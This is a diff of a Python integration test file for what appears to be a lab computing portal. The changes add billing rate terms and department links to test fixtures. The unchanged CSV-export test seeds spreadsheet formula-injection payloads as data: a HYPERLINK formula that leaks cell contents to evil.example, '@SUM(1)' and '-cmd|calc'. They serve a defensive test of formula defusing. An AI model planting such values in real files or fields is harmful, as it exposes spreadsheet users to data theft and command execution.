@@ -9,15 +9,17 @@ in tests/integration/test_hub_oauth_real.py.
 from __future__ import annotations
 
 import datetime as dt
+from decimal import Decimal
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from pydantic import ValidationError
 from sqlalchemy import select, text
 
-from testlib import AUTH, running_app, wait_for
+from testlib import AUTH, assign_terms, running_app, wait_for
 from kube import singleuser_pod
 from labhub_portal.auth import CSRF_COOKIE, SESSION_COOKIE
+from labhub_portal.billing_terms import RatePeriod
 from labhub_portal.config import Settings
 from labhub_portal.db.models import AuditLog, ContainerSession, Department, User
 from labhub_portal.stats_service import python_stats, sql_stats
@@ -206,7 +208,7 @@ async def test_users_import_all_or_nothing(settings_factory, tx_sessionmaker):
         good = "\ufeffusername,department,display_name\nalice,Physics,Alice Chen\nbob,Chemistry,\n"
         resp = await client.post("/api/users/import", files={"file": ("users.csv", good.encode())}, headers=AUTH)
         assert resp.status_code == 200, resp.text
-        assert resp.json() == {"created": 2, "updated": 0, "departments_created": 2, "rows": 2}
+        assert resp.json() == {"created": 2, "updated": 0, "departments_created": 2, "rows": 2, "sessions_rebilled": 0}
         resp = await client.post("/api/users/import", files={"file": ("u.csv", b"username,department\nbob,Physics\n")},
                                  headers=AUTH)
         assert resp.json()["updated"] == 1
@@ -240,6 +242,9 @@ async def _seed_sessions(maker, now):
                      last_seen=now - dt.timedelta(minutes=30)),  # open but unobserved for 30 min
                 sess("c1", "carol", now - 40 * day, now - 39 * day, 8, 4, 64, "H100"),
             ])
+            await s.flush()
+            await assign_terms(s, now, {"alice": phys.id}, {phys.id: RatePeriod(Decimal(2), Decimal(50), None,
+                                                                                 {"A100": "80"})})
 
 
 @pytest.mark.parametrize("group_by", ["total", "user", "department", "day", "month"])
@@ -343,6 +348,7 @@ async def test_csv_export_streams_every_row_and_defuses_formulas(settings_factor
             s.add(User(username="mallory", display_name='=HYPERLINK("http://evil.example/?"&A1,"x")',
                        department_id=dept.id))
             s.add_all([ContainerSession(
+                department_id=dept.id,
                 pod_uid=f"u{i}", pod_name=f"jupyter-u{i}", server_name="@SUM(1)" if i == 0 else "", namespace="jhub",
                 username="mallory", image="-cmd|calc" if i == 0 else "img", cpu_request=1, gpu_request=0,
                 gpu_limit=0, memory_request=2**30, started_at=now - dt.timedelta(hours=2, seconds=i),
